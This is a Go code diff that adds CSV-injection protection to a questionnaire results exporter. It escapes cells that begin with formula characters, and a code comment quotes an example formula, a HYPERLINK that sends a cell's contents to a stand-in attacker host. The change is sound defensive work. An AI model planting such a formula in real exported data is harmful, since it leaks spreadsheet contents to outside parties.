@@ -90,7 +90,7 @@ func WriteCSV(w io.Writer, qs []*Questionnaire, rs []Submission) error {
 		}
 		head = append(head, c)
 	}
-	if err := cw.Write(head); err != nil {
+	if err := cw.Write(safeCells(head)); err != nil {
 		return err
 	}
 	for _, r := range rs {
@@ -108,12 +108,25 @@ func WriteCSV(w io.Writer, qs []*Questionnaire, rs []Submission) error {
 			}
 			row = append(row, cell)
 		}
-		if err := cw.Write(row); err != nil {
+		if err := cw.Write(safeCells(row)); err != nil {
 			return err
 		}
 	}
 	cw.Flush()
 	return cw.Error()
+}
+
+// safeCells keeps a spreadsheet from reading a cell as a formula: a cell
+// that starts with = + - @, a tab or a carriage return gets a leading
+// apostrophe (OWASP's advice on CSV injection). A citizen's comment
+// =HYPERLINK("http://evil.example/?x="&A1,"click") is then text.
+func safeCells(row []string) []string {
+	for i, c := range row {
+		if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
+			row[i] = "'" + c
+		}
+	}
+	return row
 }
 
 // WriteJSON writes the results as a JSON array.
